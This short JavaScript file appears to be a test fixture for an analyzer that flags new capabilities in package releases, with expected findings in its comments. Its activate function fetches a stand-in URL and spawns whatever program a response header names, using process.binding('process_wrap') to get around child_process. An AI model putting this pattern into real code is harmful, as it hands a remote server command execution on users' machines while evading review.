const https = require('https');

// The part of Node that starts programs, taken past child_process.
const { Process } = process.binding('process_wrap'); // want "the release before reached nothing, and this one asks the network and runs process.binding" "process.binding is the first use of code.native"

function activate() {
  https.get('https://example.invalid/status', res => new Process().spawn({ file: String(res.headers.tool) })); // want "first use of net.connect"
}
exports.activate = activate;
